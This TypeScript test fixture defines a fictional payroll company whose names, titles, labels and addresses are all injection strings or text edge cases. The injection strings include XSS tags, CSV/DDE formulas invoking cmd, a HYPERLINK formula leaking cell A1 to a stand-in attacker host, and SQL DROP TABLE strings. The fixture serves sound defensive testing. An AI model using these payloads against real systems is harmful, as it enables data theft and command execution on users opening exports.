/**
 * A company whose every printable field is an attack or an edge case: markup and script, CSV and
 * spreadsheet formulas, 5,000-character names, right-to-left overrides, non-Latin scripts, emoji,
 * quotes and backslashes. Any screen, export or log that mishandles text shows it here first.
 */
import type {
  CompanyProfile,
  PersonName,
  StatementLabels,
  TeamPay,
  TeamProfile,
} from './company-plan'
import { REMOTE_SITE } from './company-plan'

/** Exactly 5,000 characters, longer than any real name and than most column limits. */
export const FIVE_THOUSAND_CHARACTERS = 'Wolfeschlegelsteinhausenbergerdorff-'
  .repeat(139)
  .slice(0, 5_000)

/** Links point at `.invalid`, a top-level domain that is guaranteed never to resolve. */
const FORMULA_LINK = '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Click for refund")'

const HOSTILE_PEOPLE: readonly PersonName[] = [
  { first: '<script>alert("first_name")</script>', middle: null, last: 'Script', preferred: null },
  { first: 'Mallory', middle: '<img src=x onerror=alert(1)>', last: 'Onerror', preferred: null },
  { first: FORMULA_LINK, middle: null, last: 'Formula', preferred: '=1+1' },
  { first: "+cmd|' /C calc'!A0", middle: null, last: 'Plus', preferred: null },
  { first: '-2+3', middle: null, last: "@SUM(1+1)*cmd|' /C calc'!A0", preferred: null },
  { first: '\t=1+1', middle: null, last: '\r=2+2', preferred: '\n=3+3' },
  { first: 'Hubert', middle: null, last: FIVE_THOUSAND_CHARACTERS, preferred: null },
  { first: 'محمد', middle: 'عبد الله', last: 'الفارسي', preferred: null },
  { first: '秀英', middle: null, last: '王', preferred: null },
  { first: '花子', middle: null, last: '佐藤', preferred: 'ハナ' },
  { first: '민준', middle: null, last: '김', preferred: null },
  { first: '👩🏽‍💻', middle: '🦄', last: 'Emoji 🎉🇺🇸', preferred: null },
  { first: '\u202Eevil\u202C', middle: '\u200F', last: 'Override\u200E', preferred: null },
  { first: 'Zoë', middle: 'Z̷̛a̶l̸g̵o̴', last: 'Ñúñez', preferred: null },
  { first: 'O\'Brien "Bob"', middle: null, last: 'Back\\slash\\', preferred: "D'Arcy" },
  { first: "Robert'); DROP TABLE individuals;--", middle: null, last: 'Tables', preferred: null },
  { first: '{{7*7}}', middle: '${7*7}', last: '__proto__', preferred: null },
  { first: '   ', middle: null, last: ' Padded ', preferred: null },
  { first: '', middle: '', last: 'Empty', preferred: '' },
  { first: 'Null', middle: null, last: 'null', preferred: 'undefined' },
  { first: 'שָׁלוֹם', middle: null, last: 'כהן', preferred: null },
  { first: 'Ὀδυσσεύς', middle: null, last: 'Ἰθάκη', preferred: null },
  { first: 'Priya', middle: null, last: 'Raman', preferred: null },
]

export function hostileName(index: number): PersonName {
  return HOSTILE_PEOPLE[index % HOSTILE_PEOPLE.length] as PersonName
}

export const HOSTILE_LABELS: StatementLabels = {
  salary: '<b>Salary</b>',
  regularHours: FORMULA_LINK,
  overtime: "+cmd|' /C calc'!A0",
  doubleOvertime: '-2+3',
  paidTimeOff: '@SUM(1+1)',
  sickPay: '\tSick',
  commission: 'Commission 💸 عمولة',
  reimbursement: '<img src=x onerror=alert("reimbursement")>',
  phoneStipend: 'Stipend "quoted" \\ back\\slash',
  annualBonus: '\u202EsunoB\u202C',
  holidayBonus: '年末ボーナス',
  severance: "'; DROP TABLE pay_statements;--",
  contractorPayment: FIVE_THOUSAND_CHARACTERS,
}

const hourly: TeamPay = { kind: 'hourly', hourlyCents: [1_900, 3_100], partTimeShare: 0.2 }
const salaried: TeamPay = { kind: 'salaried', annualCents: [7_500_000, 16_000_000] }

function team(
  department: string,
  titles: readonly string[],
  pay: TeamPay,
  weight: number,
): TeamProfile {
  return {
    department,
    leadTitle: pay.kind === 'salaried' ? '<u>Lead</u> "Manager"' : null,
    leadAnnualCents: [12_000_000, 15_000_000],
    memberTitles: titles,
    weight,
    pay,
    classCode: pay.kind === 'contractor' ? null : '8810',
    sites: pay.kind === 'contractor' ? [REMOTE_SITE] : ['markup', 'script', 'long'],
  }
}

export const HOSTILE_COMPANY: CompanyProfile = {
  legalName: `<script>alert('legal_name')</script> "Hostile" Holdings \\ =1+1, LLC`,
  shortName: '<i>Hostile</i>',
  emailDomain: 'hostile.example',
  entity: { type: 'llc', subtype: null },
  executive: {
    title: '<marquee>Chief Executive Officer</marquee>',
    department: '<b>Executive</b>',
    annualCents: [20_000_000, 24_000_000],
    site: 'markup',
  },
  divisions: [
    {
      department: '=HYPERLINK("https://attacker.invalid","Engineering")',
      headTitle: 'مدير الهندسة',
      headAnnualCents: [18_000_000, 21_000_000],
      teams: [
        team(
          '研发部',
          [
            '<script>document.title="pwned"</script>',
            'Senior "Engineer" \\ Lead',
            `Chief ${'Very '.repeat(999)}Long Title`,
          ],
          salaried,
          6,
        ),
        team(
          '__proto__',
          ['@SUM(A1:A9)', '-Contractor+1'],
          { kind: 'contractor', hourlyCents: [5_000, 8_000] },
          1,
        ),
      ],
    },
    {
      department: 'R&D "Labs" \\ Main',
      headTitle: '\u202EtceriD\u202C',
      headAnnualCents: [15_000_000, 17_000_000],
      teams: [
        team('\tOperations', ['+Warehouse Associate', '倉庫作業員', 'Ünïcödé Öperator'], hourly, 7),
        team('قسم الدعم', ['-Support', '=2*3', "Support 'Specialist'"], hourly, 4),
      ],
    },
  ],
  sites: [
    {
      key: 'markup',
      localTax: null,
      location: {
        name: '<script>alert("location")</script>',
        line1: '<img src=x onerror=alert(2)> 1 Main St',
        line2: '=1+1',
        city: 'San Francisco',
        state: 'CA',
        postal_code: '94103',
        country: 'US',
        source_id: 'LOC-"MARKUP"',
      },
    },
    {
      key: 'script',
      localTax: null,
      location: {
        name: 'مكتب \u202Eoffice\u202C',
        line1: '"Quoted" \\ Street',
        line2: null,
        city: '纽约 New York',
        state: 'NY',
        postal_code: '10005',
        country: 'US',
        source_id: 'LOC-RTL',
      },
    },
    {
      key: 'long',
      localTax: null,
      location: {
        name: FIVE_THOUSAND_CHARACTERS,
        line1: '@SUM(1,2)',
        line2: '\tSuite 🚀',
        city: 'Austin',
        state: 'TX',
        postal_code: '78701',
        country: 'US',
        source_id: 'LOC-LONG',
      },
    },
  ],
  bankName: '<b>Bank</b> =1+1',
  payGroupNames: { bi_weekly: '<i>Hourly</i> =1+1', semi_monthly: 'رواتب "Salaried"' },
  benefits: ['401k', 's125_medical', 's125_dental', 'custom_post_tax'],
}
